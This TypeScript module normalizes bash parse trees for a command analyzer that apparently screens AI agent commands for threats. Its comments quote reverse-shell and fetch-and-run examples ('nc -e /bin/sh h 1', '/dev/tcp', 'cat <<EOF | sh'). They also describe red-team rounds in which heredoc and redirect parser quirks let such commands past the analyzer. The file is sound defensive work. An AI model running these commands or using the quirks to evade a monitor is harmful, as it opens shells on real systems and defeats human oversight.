// Why: tree-sitter-bash mis-shapes a few very common agent idioms around heredocs, and an
// analyzer that trusted those shapes would miss commands: `cat <<EOF | sh` puts the pipeline
// *inside* the heredoc redirect, `cat <<EOF > f && sh f` hides the `&& sh f` there too, and
// `python3 - <<EOF` drops the `-`. This pass rewrites those shapes into the ones bash means
// (pipeline, list, argument) before analysis, and gives words after a redirect's target back to
// the command. Threat it stops: `cat <<EOF | bash` style payloads, heredoc-fed interpreters and
// arguments written after a redirect (`nc 2>/dev/null -e /bin/sh h 1`) slipping through parser quirks.
import type { SNode } from './parser.js';

const SEPARATORS = new Set([';', '&', '|', '&&', '||', '|&', ';;']);

function mk(type: string, children: SNode[], field: string | null = null): SNode {
  const start = children.length ? children[0]!.start : 0;
  const end = children.length ? children[children.length - 1]!.end : 0;
  return { type, start, end, field, named: true, missing: false, children };
}

/** Word nodes for non-blank text the parser skipped (e.g. the `-` in `python3 - <<EOF`). */
function gapWords(text: string, from: number, to: number): SNode[] {
  const out: SNode[] = [];
  let i = from;
  while (i < to) {
    while (i < to && /\s/.test(text[i]!)) i++;
    const s = i;
    while (i < to && !/\s/.test(text[i]!)) i++;
    if (i > s && !/[<>|&;()]/.test(text.slice(s, i))) out.push({ type: 'word', start: s, end: i, field: 'argument', named: true, missing: false, children: [] });
  }
  return out;
}

/**
 * `nc 2>/dev/null -e /bin/sh h 1`: the grammar gives every word after a redirect's target to the redirect as more
 * destinations, but bash runs them as the command's arguments (`nc -e /bin/sh h 1`). Moves them back, in order, so
 * a redirect put before the arguments no longer hid them from every rule (session 45: `nc 2>/dev/null -e /bin/sh
 * h 1` and `python3 </dev/null -c '…'` were allowed).
 */
function spillDestinations(cmd: SNode, redirects: SNode[]): void {
  // `bash -i >& /dev/tcp/h/1 0>&1`, `sh 0< <(curl …)`: digits touching the next redirect are its descriptor, not a word.
  const starts = new Set(redirects.map((r) => r.start));
  const fd = (w: SNode): boolean => starts.has(w.end) && w.type === 'number' && w.end - w.start <= 2 && w.children.length === 0;
  cmd.children = cmd.children.filter((c) => !(c.field === 'argument' && c.type === 'number' && starts.has(c.end)));
  for (const r of redirects) {
    if (r.type !== 'file_redirect') continue;
    const dests = r.children.filter((c) => c.field === 'destination');
    if (dests.length < 2) continue;
    const extra = new Set(dests.slice(1));
    r.children = r.children.filter((c) => !extra.has(c));
    r.end = dests[0]!.end;
    for (const w of extra) if (!fd(w)) cmd.children.push({ ...w, field: 'argument' });
    cmd.end = Math.max(cmd.end, dests.at(-1)!.end);
  }
}

/** Rewrites one redirected_statement whose heredoc redirect swallowed the rest of the line. */
function fixRedirected(n: SNode, text: string): SNode {
  const body = n.children.find((c) => c.field === 'body');
  const hd = n.children.find((c) => c.type === 'heredoc_redirect');
  if (body?.type === 'command' && body.children.some((c) => c.field === 'name')) spillDestinations(body, n.children.filter((c) => c.field === 'redirect'));
  if (body?.type === 'command') {
    const firstRedir = n.children.find((c) => c.field === 'redirect');
    if (firstRedir && firstRedir.start > body.end) {
      const lost = gapWords(text, body.end, firstRedir.start);
      if (lost.length) { body.children.push(...lost); body.end = lost[lost.length - 1]!.end; }
    }
  }
  if (!hd) return n;
  const sep = splitAtSeparator(n, hd, text);
  if (sep) return sep;
  const tailStart = hd.children.findIndex((c) => c.type === 'pipeline' || c.field === 'operator' || c.field === 'argument' || (c.field === 'redirect'));
  if (tailStart < 0) return n;
  const keep: SNode[] = [];
  const moved: SNode[] = [];
  let pipe: SNode | null = null;
  let op: SNode | null = null;
  let right: SNode | null = null;
  for (const c of hd.children) {
    if (c.field === 'argument' && body?.type === 'command') { body.children.push(c); continue; }
    if (c.field === 'redirect') { moved.push({ ...c, field: 'redirect' }); continue; }
    if (c.type === 'pipeline') { pipe = c; continue; }
    if (c.field === 'operator') { op = c; continue; }
    if (c.field === 'right') { right = c; continue; }
    keep.push(c);
  }
  hd.children = keep;
  const stmt: SNode = { ...n, children: [...n.children.filter((c) => c !== hd), hd, ...moved] };
  stmt.children.sort((a, b) => a.start - b.start);
  let out: SNode = stmt;
  if (pipe) out = mk('pipeline', [stmt, ...pipe.children]);
  if (op && right) out = mk('list', [out, op, right]);
  out.field = n.field;
  return out;
}

/**
 * `: <<EOF ;nc -e sh h 1` (then the body): the grammar puts the `;` (or `&`) after a heredoc's word into the
 * redirect as an ERROR and the next command's words after it as arguments (or, after another redirect of the
 * heredoc's, as that redirect's targets), so `:` looked like it had them and `nc` never ran. Splits the statement there into a list: the heredoc's statement, the separator, and the command the
 * words after it spell (session 45).
 */
function splitAtSeparator(n: SNode, hd: SNode, text: string): SNode | undefined {
  const isSep = (c: SNode): boolean => c.type === 'ERROR' && c.children.length === 1 && (c.children[0]!.type === ';' || c.children[0]!.type === '&');
  let sep: SNode | undefined;
  let tail: SNode[] = [];
  const at = hd.children.findIndex(isSep);
  if (at >= 0) {
    // `: <<EOF ;nc …`: the separator and the next command's words sit in the heredoc redirect
    sep = hd.children[at]!.children[0]!;
    const bodyAt = hd.children.findIndex((c, k) => k > at && (c.type === 'heredoc_body' || c.type === 'heredoc_end'));
    tail = hd.children.slice(at + 1, bodyAt < 0 ? undefined : bodyAt).filter((c) => c.named);
    hd.children = [...hd.children.slice(0, at), ...(bodyAt < 0 ? [] : hd.children.slice(bodyAt))];
  } else {
    // `: <<EOF >/dev/null ; nc …`, `: <<EOF 2>&1;nc …`: in a redirect of the heredoc's, maybe glued to its target
    const r = hd.children.find((c) => c.type === 'file_redirect' && c.children.some((k) => isSep(k) || (k.type === 'concatenation' && k.children.some(isSep))));
    if (!r) return undefined;
    const k = r.children.findIndex((c) => isSep(c) || (c.type === 'concatenation' && c.children.some(isSep)));
    const cut = r.children[k]!;
    if (isSep(cut)) { sep = cut.children[0]!; tail = r.children.slice(k + 1).filter((c) => c.named); r.children = r.children.slice(0, k); }
    else {
      const j = cut.children.findIndex(isSep);
      sep = cut.children[j]!.children[0]!;
      const before = cut.children.slice(0, j);
      tail = [...cut.children.slice(j + 1), ...r.children.slice(k + 1).filter((c) => c.named)];
      r.children = [...r.children.slice(0, k), ...(before.length === 1 ? [{ ...before[0]!, field: 'destination' }] : before.length ? [mk('concatenation', before, 'destination')] : [])];
    }
    r.end = r.children.at(-1)?.end ?? r.start;
  }
  const stmt = fixRedirected(n, text);
  if (!tail.length || tail[0]!.type !== 'word') return stmt;
  const cmd = mk('command', [mk('command_name', [tail[0]!], 'name'), ...tail.slice(1).map((c) => ({ ...c, field: 'argument' }))]);
  return mk('list', [stmt, { ...sep, field: null }, cmd]);
}

/**
 * `a && cat > f <<EOF` and `a | cat > f` come back as one redirected_statement whose body is the whole list or
 * pipeline; bash gives the redirects (and the heredoc) to the last command only. They are moved there before
 * the heredoc fixes above, so `cd /tmp && cat <<EOF | sh` is `cd /tmp && (cat <<EOF | sh)`: the payload fed to
 * sh was unseen after any `cd … &&`, and `cd` was taken for a writer of the redirect's file.
 */
function fixStatement(n: SNode, text: string, depth = 0): SNode {
  const body = n.children.find((c) => c.field === 'body');
  const lastIdx = body ? body.children.length - 1 : -1;
  const last = body?.children[lastIdx];
  if (!body || (body.type !== 'list' && body.type !== 'pipeline') || !last?.named || depth > 50) return fixRedirected(n, text);
  const inner: SNode = { ...n, field: last.field, start: last.start, children: [{ ...last, field: 'body' }, ...n.children.filter((c) => c !== body)] };
  const fixed = fixStatement(inner, text, depth + 1);
  fixed.field = last.field;
  body.children[lastIdx] = fixed;
  body.end = Math.max(body.end, fixed.end);
  body.field = n.field;
  return body;
}

/** Splits a command whose argument list contains an ERROR separator (`sh f ; echo` mis-parse). */
function splitCommand(n: SNode): SNode {
  const idx = n.children.findIndex((c) => c.type === 'ERROR' && c.children.length === 1 && SEPARATORS.has(c.children[0]!.type));
  if (idx < 0) return n;
  const head: SNode = { ...n, children: n.children.slice(0, idx) };
  head.end = head.children.length ? head.children[head.children.length - 1]!.end : n.start;
  const rest = n.children.slice(idx + 1);
  if (rest.length === 0) return head;
  const tail: SNode = { ...n, start: rest[0]!.start, children: rest.map((c, k) => (k === 0 ? { ...c, field: 'name' } : c)) };
  return mk('list', [head, n.children[idx]!.children[0]!, splitCommand(tail)]);
}

/**
 * Words the grammar does not know where bash puts them, blanked in the text the parser sees (same length, so every
 * span still points into the original), so what follows is parsed as the command bash runs:
 *   - `coproc [NAME]` before a command or compound command (`coproc nc -e sh h 1`, `coproc X { …; }`);
 *   - `time` and `!` before a compound command, `!` or `time` (`time { …; }`, `! { …; }`, `time ! cmd`, `! ! cmd`);
 *   - the case terminators `;;&` and `;&` (spelt `;; ` and `;;`).
 * Each of those came back as an ERROR or a command named `{`/`time`/`coproc`, and the command inside was never
 * judged (a red team's round, session 45). Text inside quotes may be blanked too; that only changes a mention.
 */
export function blankKeywords(text: string): string {
  let t = text;
  if (t.includes('coproc')) {
    t = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|time|if|while|until)\s|!\s)(\s*)coproc(\s+)(?:([A-Za-z_][A-Za-z0-9_]*)(?=\s*[{(]))?/g,
      (_m, pre: string, sp: string, sp2: string, name: string | undefined) => `${pre}${sp}      ${sp2}${' '.repeat(name?.length ?? 0)}`);
  }
  if (t.includes('time') || t.includes('!')) {
    for (let i = 0; i < 4; i++) {
      const next = t.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|if|while|until)\s)(\s*)(time(?:\s+-p)?|!)(\s+)(?=[{(!]|time\b|if\b|while\b|until\b|for\b|case\b|select\b|coproc\b|\[\[)/g,
        (_m, pre: string, sp: string, kw: string, sp2: string) => `${pre}${sp}${' '.repeat(kw.length)}${sp2}`);
      if (next === t) break;
      t = next;
    }
  }
  if (t.includes(';&') && /\bcase\b/.test(t)) t = t.replace(/;;&/g, ';; ').replace(/(?<!;);&/g, ';;');
  return t;
}

/**
 * A heredoc's word glued to what follows (`: <<EOF;nc -e sh h 1`, `cat <<EOF|sh`) or quoted in part (`<<A'B'`,
 * `<<E''OF`): bash ends the word at the operator and strips the quotes (the delimiter is EOF, AB), but the grammar
 * takes `EOF;`/`A'B'` as the delimiter, never finds it, and swallows the rest of the text as the heredoc's body, so
 * nothing after it was judged (a red team's round, session 45). Returns the text re-spelt the way bash reads it —
 * a space after the word, the word quoted whole — for the analyzer to screen as one more layer, or null when
 * nothing needs it.
 */
export function respellHeredocWords(text: string): string | null {
  if (!text.includes('<<')) return null;
  const out = text.replace(/(?<!<)(<<-?[ \t]*)(?!<)((?:'[^'\n]*'|"[^"\n]*"|\\.|[^\s;&|()<>'"`\\])+)([;&|()<>]?)/g, (m, op: string, word: string, after: string) => {
    const partQuoted = /['"\\]/.test(word) && !/^'[^']*'$|^"[^"]*"$/.test(word);
    const w = partQuoted ? `'${word.replace(/['"\\]/g, '')}'` : word;
    return `${op}${w}${after ? ` ${after}` : ''}`;
  });
  return out === text ? null : out;
}

/** Applies every fix, bottom-up, in place where possible. Returns the (maybe replaced) node. */
export function normalizeTree(n: SNode, text: string, depth = 0): SNode {
  if (depth > 200) return n;
  for (let i = 0; i < n.children.length; i++) {
    const c = n.children[i]!;
    const r = normalizeTree(c, text, depth + 1);
    if (r !== c) r.field = c.field;
    n.children[i] = r;
  }
  if (n.type === 'redirected_statement') return fixStatement(n, text);
  if (n.type === 'command') {
    if (n.children.some((c) => c.field === 'name')) spillDestinations(n, n.children.filter((c) => c.field === 'redirect'));
    return splitCommand(n);
  }
  return n;
}
